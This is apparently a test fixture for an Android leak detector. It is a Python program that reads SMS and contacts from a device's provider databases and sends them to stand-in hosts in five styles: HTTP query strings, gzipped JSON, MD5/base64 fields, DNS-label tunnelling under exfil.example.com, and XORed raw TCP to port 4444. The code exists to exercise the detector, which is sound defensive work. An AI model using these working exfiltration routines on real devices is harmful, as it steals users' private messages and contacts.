"""com.example.kitchensink 1.0.0: canary leaks in every style Honeyphone must catch.

One program, one style per service (the style is ``argv[1]``).  Each style
fires at its own device hour shortly after start and once more at hour 48,
then idles.  Data comes straight from the providers' SQLite files, opened
read-only as a privileged ``system`` service can.

=============  ====  =========================================================
style          hour  what leaves the device
=============  ====  =========================================================
http-query     1     plain HTTP GET per contact (first 5):
                     http://tracker.example.net/collect?phone=<number>&name=<name>
                     (URL-encoded: ``+`` becomes ``%2B``, spaces ``+``)
gzip-json      2     HTTPS POST https://api.example.org/v2/sync, JSON with every
                     SMS (address, body, date), ``Content-Encoding: gzip``
md5-b64        3     HTTPS POST https://api.example.org/v2/stats, Adups-style
                     fields: uppercase hex MD5 of each SMS body and contact
                     number, base64 of each SMS body, sender and contact name
dns-labels     4     DNS lookups of <hex(number)>.<hex(name)>.x.exfil.example.com
                     (first 3 contacts; hex split into labels of at most 62
                     characters) through ``socket.getaddrinfo``
raw-tcp        5     one TCP connection to 198.51.100.7:4444 sending
                     "<number> TAB <name> LF" per contact (first 3) in UTF-8,
                     every byte XORed with 0x5A
benign-config  6     control: HTTPS GET https://api.example.org/v2/config with
                     model and SDK level only; reads no personal data
=============  ====  =========================================================

Robustness: every network or database error is logged and the schedule goes
on.  Requests carry an ordinary 10 s timeout: the twin's
device clock runs network exchanges in real time and skips only idle time.  Sleeps are computed against ``time.time()`` (device
time).

Runtime knobs.  All are unset on a device; tests/unit/examples set them to
run this file on a host against loopback and a temporary directory:

* ``HONEYPHONE_DEVICE_ROOT``: directory that stands for ``/`` when reading
  device files (provider databases, ``/system/build.prop``,
  ``/dev/__properties__``); when set, ``getprop`` is not run.
* ``HONEYPHONE_EXAMPLE_BASE_URL``: send every HTTP(S) request to this base
  URL (a loopback test server) with the original path and query, and
  the original host name in the ``Host`` header.
* ``HONEYPHONE_EXAMPLE_DNS_SERVER``: ``HOST:PORT``; dns-labels sends its
  queries there as raw DNS over UDP instead of calling ``getaddrinfo``.
* ``HONEYPHONE_EXAMPLE_TCP_TARGET``: ``HOST:PORT`` instead of 198.51.100.7:4444.
* ``HONEYPHONE_EXAMPLE_FAST=1``: one device hour lasts
  ``HONEYPHONE_EXAMPLE_HOUR_SECONDS`` real seconds (default 0.01).
* ``HONEYPHONE_EXAMPLE_HOURS``: exit 0 after this many (schedule) hours;
  runs due before then all happen.  Default: run forever.
* ``HONEYPHONE_EXAMPLE_TIMEOUT``: network timeout in seconds (default 10).

When ``HONEYPHONE_DEVICE_ROOT`` or ``HONEYPHONE_EXAMPLE_BASE_URL`` is set
(a dry run on a host), dns-labels and raw-tcp only use their redirect knobs
and skip the lookup or connection when those are unset.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import hashlib
import http.client
import json
import os
import random
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterable
from typing import Any

CLIENT_VERSION = "1.0.0"

TRACKER_URL = "http://tracker.example.net/collect"
SYNC_URL = "https://api.example.org/v2/sync"
STATS_URL = "https://api.example.org/v2/stats"
CONFIG_URL = "https://api.example.org/v2/config"
EXFIL_DOMAIN = "x.exfil.example.com"
TCP_TARGET = ("198.51.100.7", 4444)
XOR_KEY = 0x5A
SECOND_RUN_HOUR = 48.0
STYLE_HOURS = {
    "http-query": 1.0,
    "gzip-json": 2.0,
    "md5-b64": 3.0,
    "dns-labels": 4.0,
    "raw-tcp": 5.0,
    "benign-config": 6.0,
}
HTTP_CONTACTS = 5
DNS_CONTACTS = 3
TCP_CONTACTS = 3
MAX_LABEL = 62  # hex characters per DNS label (63 allowed; even keeps bytes whole)
MAX_NAME = 253

TAG = f"kitchensink/{sys.argv[1] if len(sys.argv) > 1 else '?'}"

MMSSMS_DB = "/data/user/0/com.android.providers.telephony/databases/mmssms.db"
CONTACTS_DB = "/data/user/0/com.android.providers.contacts/databases/contacts2.db"
MIME_NAME = "vnd.android.cursor.item/name"
MIME_PHONE = "vnd.android.cursor.item/phone_v2"

# ---------------------------------------------------------------------------
# Runtime knobs (see the module docstring)
# ---------------------------------------------------------------------------

DEVICE_ROOT = os.environ.get("HONEYPHONE_DEVICE_ROOT", "")
BASE_URL = os.environ.get("HONEYPHONE_EXAMPLE_BASE_URL", "").rstrip("/")
FAST = os.environ.get("HONEYPHONE_EXAMPLE_FAST", "") == "1"
HOUR = float(os.environ.get("HONEYPHONE_EXAMPLE_HOUR_SECONDS") or "0.01") if FAST else 3600.0
STOP_AFTER_HOURS = float(os.environ.get("HONEYPHONE_EXAMPLE_HOURS") or "inf")
# 10 s, as real firmware sets (OkHttp defaults to 10 s): the twin's device clock runs
# exchanges in real time, so an ordinary timeout holds.
TIMEOUT = float(os.environ.get("HONEYPHONE_EXAMPLE_TIMEOUT") or 10)
DNS_SERVER = os.environ.get("HONEYPHONE_EXAMPLE_DNS_SERVER", "")
TCP_OVERRIDE = os.environ.get("HONEYPHONE_EXAMPLE_TCP_TARGET", "")
DRY = bool(DEVICE_ROOT or BASE_URL)
MAX_NAP_HOURS = 24.0  # wake at least daily even with nothing to do


def log(message: str) -> None:
    """One line on stdout, stamped with the device clock (UTC)."""
    now = time.time()
    stamp = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(now))
    print(f"{stamp}.{int(now % 1 * 1000):03d} {TAG}[{os.getpid()}]: {message}", flush=True)


def device_path(path: str) -> str:
    return os.path.join(DEVICE_ROOT, path.lstrip("/")) if DEVICE_ROOT else path


# ---------------------------------------------------------------------------
# System properties
# ---------------------------------------------------------------------------

_PROPS: dict[str, str] = {}
_GETPROP_WORKS = not DEVICE_ROOT


def _prop_from_files(name: str) -> str:
    """What getprop would print: a runtime property, else build.prop, else default.prop."""
    try:
        with open(device_path(f"/dev/__properties__/{name}"), encoding="utf-8", errors="replace") as handle:
            return handle.read().strip()
    except OSError:
        pass
    for path in ("/system/build.prop", "/default.prop"):
        found = ""
        try:
            with open(device_path(path), encoding="utf-8", errors="replace") as handle:
                for line in handle:
                    key, sep, value = line.strip().partition("=")
                    if sep and not key.startswith("#") and key.strip() == name:
                        found = value.strip()  # the last assignment wins, as in init
        except OSError:
            continue
        if found:
            return found
    return ""


def _prop_from_getprop(name: str) -> str:
    global _GETPROP_WORKS
    try:
        result = subprocess.run(["getprop", name], capture_output=True, text=True, errors="replace",
                                stdin=subprocess.DEVNULL, check=False)
        problem = f"exit status {result.returncode}" if result.returncode else ""
    except OSError as exc:
        problem = str(exc)
    if problem:
        _GETPROP_WORKS = False
        log(f"getprop failed ({problem}); reading property files from now on")
        return ""
    return result.stdout.strip()


def getprop(name: str, default: str = "") -> str:
    """An Android system property (cached: these do not change while we run)."""
    if name not in _PROPS:
        value = _prop_from_getprop(name) if _GETPROP_WORKS else ""
        _PROPS[name] = value or _prop_from_files(name)
    return _PROPS[name] or default


# ---------------------------------------------------------------------------
# HTTPS
# ---------------------------------------------------------------------------

_OPENER = urllib.request.build_opener(
    urllib.request.ProxyHandler({}),  # firmware talks to its servers directly
    urllib.request.HTTPSHandler(context=ssl.create_default_context()),
)


def user_agent() -> str:
    release = getprop("ro.build.version.release", "6.0")
    model = getprop("ro.product.model", "unknown")
    build_id = getprop("ro.build.id", "unknown")
    return f"Dalvik/2.1.0 (Linux; U; Android {release}; {model} Build/{build_id})"


def request(method: str, url: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> bytes | None:
    """Send one request; returns the response body, or None after logging the error."""
    target, host = url, None
    if BASE_URL:
        parts = urllib.parse.urlsplit(url)
        target = BASE_URL + (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
        host = parts.netloc
    req = urllib.request.Request(target, data=body, method=method)
    req.add_header("User-Agent", user_agent())
    for key, value in (headers or {}).items():
        req.add_header(key, value)
    if host:
        req.add_header("Host", host)
    shown = url.split("?", 1)[0]  # keep query strings (personal data, in some styles) out of the log
    try:
        with _OPENER.open(req, timeout=TIMEOUT) as resp:
            data: bytes = resp.read()
            log(f"{method} {shown} -> {resp.status}, {len(data)} bytes")
            return data
    except urllib.error.HTTPError as exc:
        log(f"{method} {shown} -> HTTP {exc.code}")
        exc.close()
    except (OSError, http.client.HTTPException, ValueError) as exc:  # URLError, SSL errors, resets
        log(f"{method} {shown} failed: {exc!r}")
    return None


def post_json(url: str, payload: object) -> bytes | None:
    body = json.dumps(payload, ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    return request("POST", url, body, {"Content-Type": "application/json;charset=UTF-8"})


# ---------------------------------------------------------------------------
# Provider databases, opened read-only
# ---------------------------------------------------------------------------


def query(db: str, sql: str, args: Iterable[object] = ()) -> list[tuple[Any, ...]]:
    uri = f"file:{urllib.parse.quote(device_path(db))}?mode=ro"
    try:
        with contextlib.closing(sqlite3.connect(uri, uri=True, timeout=30)) as conn:
            return conn.execute(sql, tuple(args)).fetchall()
    except sqlite3.Error as exc:
        log(f"cannot read {db}: {exc}")
        return []


def read_sms() -> list[tuple[Any, ...]]:
    return query(MMSSMS_DB, "SELECT address, body, date, type FROM sms ORDER BY _id")


def read_contacts() -> list[tuple[str, str]]:
    """(name, number) for every phone number of every live raw contact."""
    rows = query(
        CONTACTS_DB,
        "SELECT d.raw_contact_id, m.mimetype, d.data1 FROM data d"
        " JOIN mimetypes m ON m._id = d.mimetype_id"
        " JOIN raw_contacts r ON r._id = d.raw_contact_id"
        " WHERE r.deleted = 0 AND m.mimetype IN (?, ?) ORDER BY d.raw_contact_id, d._id",
        (MIME_NAME, MIME_PHONE),
    )
    names: dict[int, str] = {}
    numbers: dict[int, list[str]] = {}
    for raw_id, mimetype, data1 in rows:
        if mimetype == MIME_NAME:
            names.setdefault(raw_id, data1 or "")
        elif data1:
            numbers.setdefault(raw_id, []).append(data1)
    out: list[tuple[str, str]] = []
    for raw_id in sorted(set(names) | set(numbers)):
        for number in numbers.get(raw_id) or [""]:
            out.append((names.get(raw_id, ""), number))
    return out


# ---------------------------------------------------------------------------
# The styles
# ---------------------------------------------------------------------------


def md5_upper(text: str) -> str:
    return hashlib.md5(text.encode("utf-8")).hexdigest().upper()


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def host_port(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def leak_http_query() -> None:
    contacts = read_contacts()[:HTTP_CONTACTS]
    log(f"sending {len(contacts)} contacts in query strings")
    for name, number in contacts:
        query_string = urllib.parse.urlencode({"phone": number, "name": name, "v": CLIENT_VERSION})
        request("GET", f"{TRACKER_URL}?{query_string}")


def leak_gzip_json() -> None:
    messages = [{"from": address or "", "body": body or "", "ts": int(date or 0), "box": int(kind or 0)}
                for address, body, date, kind in read_sms()]
    payload = json.dumps({"device": getprop("ro.product.model", "unknown"), "messages": messages},
                         ensure_ascii=False, separators=(",", ":")).encode("utf-8")
    log(f"syncing {len(messages)} messages, {len(payload)} bytes before gzip")
    request("POST", SYNC_URL, gzip.compress(payload),
            {"Content-Type": "application/json; charset=utf-8", "Content-Encoding": "gzip"})


def leak_md5_b64() -> None:
    events = [{"md5": md5_upper(body or ""), "keyword": b64(body or ""), "tell": b64(address or ""),
               "msg_date": str(date or 0)} for address, body, date, _ in read_sms()]
    contacts = [{"hash": md5_upper(number), "n": b64(name)} for name, number in read_contacts()]
    log(f"sending {len(events)} hashed messages and {len(contacts)} hashed contacts")
    post_json(STATS_URL, {"events": events, "contacts": contacts})


def hex_labels(text: str) -> list[str]:
    encoded = text.encode("utf-8").hex()
    return [encoded[i:i + MAX_LABEL] for i in range(0, len(encoded), MAX_LABEL)]


def exfil_name(number: str, name: str) -> str:
    """<hex(number)>.<hex(name)>.x.exfil.example.com, the name cut to fit 253 characters."""
    number_labels = hex_labels(number)
    room = MAX_NAME - len(EXFIL_DOMAIN) - sum(len(label) + 1 for label in number_labels)
    name_hex = name.encode("utf-8").hex()
    name_labels: list[str] = []
    while name_hex:
        take = min(MAX_LABEL, room - 1, len(name_hex))
        take -= take % 2
        if take <= 0:
            break
        name_labels.append(name_hex[:take])
        name_hex = name_hex[take:]
        room -= take + 1
    return ".".join(number_labels + name_labels + [EXFIL_DOMAIN])


def dns_query_packet(qname: str, query_id: int) -> bytes:
    header = struct.pack(">HHHHHH", query_id, 0x0100, 1, 0, 0, 0)  # standard query, recursion desired
    question = b"".join(bytes([len(label)]) + label.encode("ascii") for label in qname.split("."))
    return header + question + b"\x00" + struct.pack(">HH", 1, 1)  # QTYPE A, QCLASS IN


def resolve_via(server: tuple[str, int], qname: str) -> None:
    query_id = random.randrange(1 << 16)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(min(TIMEOUT, 5.0))
        sock.sendto(dns_query_packet(qname, query_id), server)
        reply, _ = sock.recvfrom(4096)
    rcode = reply[3] & 0x0F if len(reply) >= 4 else -1
    log(f"DNS reply for {len(qname)}-character name: rcode {rcode}")


def leak_dns_labels() -> None:
    contacts = read_contacts()[:DNS_CONTACTS]
    log(f"looking up {len(contacts)} encoded names")
    for name, number in contacts:
        qname = exfil_name(number, name)
        try:
            if DNS_SERVER:
                resolve_via(host_port(DNS_SERVER), qname)
            elif DRY:
                log("dry run without HONEYPHONE_EXAMPLE_DNS_SERVER: lookup skipped")
            else:
                answers = socket.getaddrinfo(qname, 80, proto=socket.IPPROTO_TCP)
                log(f"resolved to {sorted({a[4][0] for a in answers})}")
        except (OSError, ValueError) as exc:  # gaierror and timeouts are OSErrors
            log(f"lookup failed: {exc!r}")


def leak_raw_tcp() -> None:
    contacts = read_contacts()[:TCP_CONTACTS]
    if TCP_OVERRIDE:
        target = host_port(TCP_OVERRIDE)
    elif DRY:
        log("dry run without HONEYPHONE_EXAMPLE_TCP_TARGET: connection skipped")
        return
    else:
        target = TCP_TARGET
    plain = "".join(f"{number}\t{name}\n" for name, number in contacts).encode("utf-8")
    payload = bytes(b ^ XOR_KEY for b in plain)
    try:
        connect_timeout = TIMEOUT
        with socket.create_connection(target, timeout=connect_timeout) as sock:
            sock.sendall(payload)
            sock.shutdown(socket.SHUT_WR)
        log(f"sent {len(payload)} XORed bytes for {len(contacts)} contacts to {target[0]}:{target[1]}")
    except OSError as exc:
        log(f"TCP to {target[0]}:{target[1]} failed: {exc!r}")


def benign_config() -> None:
    params = urllib.parse.urlencode({"model": getprop("ro.product.model", "unknown"),
                                     "sdk": getprop("ro.build.version.sdk", "0")})
    request("GET", f"{CONFIG_URL}?{params}", headers={"Accept": "application/json"})


STYLES: dict[str, Callable[[], None]] = {
    "http-query": leak_http_query,
    "gzip-json": leak_gzip_json,
    "md5-b64": leak_md5_b64,
    "dns-labels": leak_dns_labels,
    "raw-tcp": leak_raw_tcp,
    "benign-config": benign_config,
}


# ---------------------------------------------------------------------------
# Scheduling
# ---------------------------------------------------------------------------

Job = tuple[str, float, float | None, Callable[[], None]]  # name, first hour, period (None: once), action


def run_schedule(jobs: list[Job]) -> None:
    """Run each job at its device hours (counted from now) until HONEYPHONE_EXAMPLE_HOURS.

    Jobs due at the same hour run in list order.  A job that fails is logged
    and keeps its schedule.  Every run due before the stop hour happens: a
    slow request makes the following runs late (back to back if need be), but
    the cadence stays on the original hours.
    """
    start = time.time()
    due: list[float | None] = [first for _, first, _, _ in jobs]
    while True:
        now = (time.time() - start) / HOUR
        ready = sorted((hour, index) for index, hour in enumerate(due)
                       if hour is not None and hour <= now and hour < STOP_AFTER_HOURS)
        for hour, index in ready:
            name, _, period, action = jobs[index]
            log(f"{name}: due at hour {hour:g}")
            try:
                action()
            except Exception:  # firmware keeps running whatever one run does
                log(f"{name} failed: {traceback.format_exc(limit=3).strip()}")
            due[index] = None if period is None else hour + period
        if ready:
            continue
        if now >= STOP_AFTER_HOURS:
            log(f"stopping after {STOP_AFTER_HOURS:g} hours")
            return
        pending = [hour for hour in due if hour is not None and hour < STOP_AFTER_HOURS]
        wake = min(pending + [STOP_AFTER_HOURS, now + MAX_NAP_HOURS])
        time.sleep(max(0.0, start + wake * HOUR - time.time()))


def main(argv: list[str]) -> int:
    if len(argv) != 1 or argv[0] not in STYLES:
        print(f"usage: main.py {{{'|'.join(STYLES)}}}", file=sys.stderr)
        return 2
    style = argv[0]
    signal.signal(signal.SIGTERM, lambda signum, frame: sys.exit(0))
    log(f"kitchen sink {CLIENT_VERSION} starting")
    first = STYLE_HOURS[style]
    run_schedule([(style, first, None, STYLES[style]), (style, SECOND_RUN_HOUR, None, STYLES[style])])
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
